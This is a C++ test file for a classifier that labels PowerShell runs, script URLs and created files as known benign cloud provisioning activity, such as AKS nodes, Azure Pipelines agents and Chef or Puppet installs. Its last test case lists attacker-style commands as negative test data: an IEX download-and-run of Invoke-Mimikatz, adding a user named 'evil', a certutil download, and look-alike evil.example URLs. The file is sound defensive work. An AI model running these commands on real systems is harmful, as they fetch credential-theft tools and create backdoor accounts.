// The commands and addresses are those that the named public sources show (benign.cpp says which), shortened; secrets and names our own.
#include "findings/benign.hpp"

#include <doctest/doctest.h>

using namespace trimcarve;
using findings::label_run;

namespace {

RunRecord command(std::string text) {
  RunRecord run;
  run.command = std::move(text);
  return run;
}
RunRecord uri(std::string text) {
  RunRecord run;
  run.command = "powershell -ExecutionPolicy Unrestricted -File x.ps1";
  run.file_uris = {"https://example.com/other.ps1", std::move(text)};
  return run;
}
RunRecord made(std::string path) {
  RunRecord run;
  CreatedFile file;
  file.path = std::move(path);
  run.created_elsewhere = {file};
  return run;
}

std::string name_of(const RunRecord& run) {
  const auto labels = label_run(run);
  return labels.size() == 1 ? labels[0].name : std::to_string(labels.size()) + " labels";
}

}  // namespace

TEST_CASE("an AKS node's command is labelled, by what of it matched") {
  const auto labels = label_run(command(
      R"(powershell.exe -ExecutionPolicy Unrestricted -command "$arguments = '-MasterIP 10.0.0.1 -CSEResultFilePath %SYSTEMDRIVE%\AzureData\CSEResult.log'; )"
      R"($inputFile = '%SYSTEMDRIVE%\AzureData\CustomData.bin'; $outputFile = '%SYSTEMDRIVE%\AzureData\CustomDataSetupScript.ps1'; Copy-Item $inputFile $outputFile;")"));
  REQUIRE(labels.size() == 1);  // one, although three rows match
  CHECK(labels[0].name == "AKS Windows node");
  CHECK(labels[0].basis == R"(command holds "\AzureData\CustomData.bin" and "\AzureData\CustomDataSetupScript.ps1")");
  CHECK(label_run(made(R"(\AzureData\CSEResult.log)"))[0].basis == R"(path of a file created meanwhile holds "\AzureData\CSEResult.log")");
  CHECK(name_of(made(R"(\k\windowsnodereset.ps1)")) == "AKS Windows node");
}

TEST_CASE("other services and tools are known by their own addresses, arguments and folders") {
  CHECK(name_of(uri("https://wvdportalstorageblob.blob.core.windows.net/galleryartifacts/HCIScripts_1.0.02608.268/HciCustomScript.ps1")) ==
        "Azure Virtual Desktop session host");
  CHECK(name_of(command("powershell -File HciCustomScript.ps1 -HostPoolName p -RegistrationInfoToken eyJ")) ==
        "Azure Virtual Desktop session host");
  CHECK(name_of(uri("https://vstsagenttools.blob.core.windows.net/tools/ElasticPools/Windows/17/enableagent.ps1")) ==
        "Azure Pipelines agent");
  CHECK(name_of(uri("https://raw.githubusercontent.com/Azure/azure-devtestlab/master/Artifacts/windows-chrome/x.ps1")) ==
        "Azure DevTest Labs artifact");
  CHECK(name_of(uri("https://raw.githubusercontent.com/ansible/ansible/devel/examples/scripts/ConfigureRemotingForAnsible.ps1")) ==
        "Ansible remoting setup");
  CHECK(name_of(
            command("powershell -c \"(New-Object Net.WebClient).DownloadFile('https://m:8140/packages/current/install.ps1','i.ps1')\"")) ==
        "Puppet agent installation");
  CHECK(name_of(command("powershell . { iwr -useb https://omnitruck.chef.io/install.ps1 } | iex; install")) == "Chef client installation");
  CHECK(name_of(command("powershell -ExecutionPolicy Unrestricted -File gatewayInstall.ps1 IR@0000@df@key && timeout /t 120")) ==
        "Data Factory integration runtime");
  CHECK(name_of(uri("https://raw.githubusercontent.com/Azure/jenkins/master/agents_scripts/Jenkins-Windows-Init-Script-Jnlp.ps1")) ==
        "Jenkins agent on Azure");
  CHECK(name_of(made(R"(\Windows\Temp\packer-ps-env-vars-69124c30-bdef.ps1)")) == "Packer or Azure Image Builder");
  CHECK(name_of(command("powershell .\\AzureMigrateInstaller.ps1 -Scenario Physical -Cloud Public")) == "Azure Migrate or Site Recovery");
  CHECK(name_of(command("MMASetup-AMD64.exe /C:\"setup.exe /qn ADD_OPINSIGHTS_WORKSPACE=1 OPINSIGHTS_WORKSPACE_ID=1\"")) ==
        "Azure monitoring agent installation");
  CHECK(name_of(made(R"(\Program Files\Microsoft Service Fabric\bin\Fabric\Fabric.Code\Fabric.exe)")) == "Service Fabric node");
}

TEST_CASE("scripts and made files count as well") {
  RunRecord run;
  ScriptReport script;
  script.path = R"(\Packages\Plugins\Microsoft.Compute.CustomScriptExtension\1.10.15\Downloads\0\ConfigureRemotingForAnsible.ps1)";
  run.scripts = {script};
  const auto labels = label_run(run);
  REQUIRE(labels.size() == 1);
  CHECK(labels[0].basis == R"(a script's path holds "\ConfigureRemotingForAnsible.ps1")");
  run.made = std::move(run.scripts);
  run.scripts.clear();
  CHECK(label_run(run)[0].basis == R"(a made file's path holds "\ConfigureRemotingForAnsible.ps1")");
}

TEST_CASE("a run that looks like two has two labels") {
  RunRecord run = uri("https://vstsagentpackage.azureedge.net/agent/3.220.0/vsts-agent-win-x64-3.220.0.zip");
  run.command = "powershell . { iwr https://omnitruck.chef.io/install.ps1 } | iex";
  CHECK(label_run(run).size() == 2);
}

TEST_CASE("what an attacker commonly runs, and what everybody does, has no label") {
  for (const char* text :
       {"powershell -ExecutionPolicy Unrestricted -File x.ps1", "powershell -enc SQBFAFgA", "cmd /c whoami > C:\\out.txt",
        "net user evil P@ss /add",
        "powershell IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/a/b/master/Invoke-Mimikatz.ps1')",
        "powershell -File install.ps1", "powershell -File enableagent.ps1", "powershell -File Configuration.ps1",
        "type C:\\AzureData\\CustomData.bin", "powershell Enable-PSRemoting -Force",
        "certutil -urlcache -f https://stage.blob.core.windows.net/galleryartifacts/x.exe x.exe"})
    CHECK_MESSAGE(label_run(command(text)).empty(), text);
  for (const char* text :
       {"https://raw.githubusercontent.com/a/b/main/x.ps1", "https://stage.blob.core.windows.net/tools/enableagent.ps1",
        "https://example.com/ConfigureRemotingForAnsible.ps1", "https://github.com/Azure/other/raw/main/install.ps1",
        "https://evil.example/?u=https://vstsagenttools.blob.core.windows.net/tools/ElasticPools/Windows/17/enableagent.ps1",
        "https://evil.example/ansible/ansible/devel/examples/scripts/ConfigureRemotingForAnsible.ps1"})
    CHECK_MESSAGE(label_run(uri(text)).empty(), text);
  for (const char* text : {R"(\Windows\Temp\x.ps1)", R"(\AzureData\CustomData.bin)", R"(\Users\Public\agent.zip)", R"(\k\x.ps1)"})
    CHECK_MESSAGE(label_run(made(text)).empty(), text);
  CHECK(label_run(RunRecord{}).empty());
}
